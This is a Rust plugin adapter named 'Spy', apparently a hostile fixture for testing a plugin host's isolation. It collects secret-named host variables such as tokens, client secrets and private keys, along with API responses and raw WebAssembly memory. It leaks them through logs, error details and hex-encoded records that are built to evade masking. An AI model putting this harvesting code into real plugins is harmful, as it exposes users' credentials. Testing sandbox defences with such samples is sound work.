//! An adapter that looks for secrets wherever it can look, and tells all it sees.

use plughouse_sdk::{
    Account, Adapter, Entity, Error, ErrorKind, Level, Next, Page, Payload, PullRequest, Record,
    Request, host, unknown_entity,
};

/// Bytes of memory in one record; as hexadecimal digits they are well below what a record may be.
const PIECE_BYTES: usize = 32 << 10;

/// What hosts might call something that an adapter should not see.
const NAMES: [&str; 13] = [
    "access_token",
    "account",
    "auth",
    "authorization",
    "client_id",
    "client_secret",
    "code",
    "email",
    "marker",
    "private_key",
    "refresh_token",
    "state",
    "token",
];

struct Spy;

impl Adapter for Spy {
    const ID: &'static str = "spy";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const ENTITIES: &'static [&'static str] = &["account", "failure", "memory"];

    fn check() -> Result<Account, Error> {
        Ok(Account::new("spied", "an account"))
    }

    fn discover(name: Option<&str>, _part: Option<&str>) -> Result<Vec<Entity>, Error> {
        let names = Self::ENTITIES.iter().filter(|known| name.is_none_or(|name| name == **known));
        Ok(names.map(|name| Entity::new(name, name, Vec::new())).collect())
    }

    fn pull(request: PullRequest) -> Result<Page, Error> {
        match request.entity.as_str() {
            "account" => Ok(page("account", told().into_iter().map(String::into_bytes).collect())),
            "failure" => Err(failure()),
            "memory" => {
                let kept = told();
                let page = page("memory", memory());
                drop(kept);
                Ok(page)
            }
            other => Err(unknown_entity(other)),
        }
    }
}

/// Everything that the host and the provider tell, and says it to the log as well.
fn told() -> Vec<String> {
    let variables = NAMES.iter().filter_map(|name| host::variable(name));
    let mut told: Vec<_> = variables.collect();
    for path in ["/echo", "/me"] {
        told.push(match Request::get("api", path).send() {
            Ok(answer) => format!("{} {:?} {:?}", answer.status, answer.headers, answer.text()),
            Err(error) => format!("{error:?}"),
        });
    }
    for text in &told {
        host::log(Level::Error, text, &[("told", text)]);
    }
    told
}

/// An error that says all of it.
fn failure() -> Error {
    let told = told().join(" ");
    Error::new(ErrorKind::Invalid, "spy.told", &told).detail("told", &told)
}

/// A page of records; what they hold is written in hexadecimal digits, so that nobody finds and
/// masks it on its way.
fn page(entity: &str, pieces: Vec<Vec<u8>>) -> Page {
    let record = |(number, piece): (usize, Vec<u8>)| {
        let json = format!("{{\"told\":\"{}\"}}", hex(&piece));
        Record::new(entity, &number.to_string(), Payload::Json(json.into_bytes()))
    };
    let records = pieces.into_iter().enumerate().map(record).collect();
    Page::new(records, Next::Done(String::new()))
}

/// All of the memory in which something stands.
fn memory() -> Vec<Vec<u8>> {
    #[cfg(target_family = "wasm")]
    let size = core::arch::wasm32::memory_size(0) << 16;
    #[cfg(not(target_family = "wasm"))]
    let size = 0;
    let piece = |start: usize| {
        let bytes: Vec<u8> = (start..(start + PIECE_BYTES).min(size)).map(byte).collect();
        bytes.iter().any(|byte| *byte != 0).then_some(bytes)
    };
    (0..size).step_by(PIECE_BYTES).filter_map(piece).collect()
}

#[expect(unsafe_code, reason = "a spy reads what it was never given")]
fn byte(at: usize) -> u8 {
    // The address of nothing is one that may be read here, but not in the language.
    if at == 0 {
        return 0;
    }
    // SAFETY: the memory reaches that far, and a byte that changes meanwhile is as good.
    unsafe { core::ptr::with_exposed_provenance::<u8>(at).read_volatile() }
}

fn hex(bytes: &[u8]) -> String {
    let digit = |half: u8| char::from_digit(half.into(), 16).unwrap_or('?');
    bytes.iter().flat_map(|byte| [digit(byte >> 4), digit(byte & 15)]).collect()
}

plughouse_sdk::adapter!(Spy);
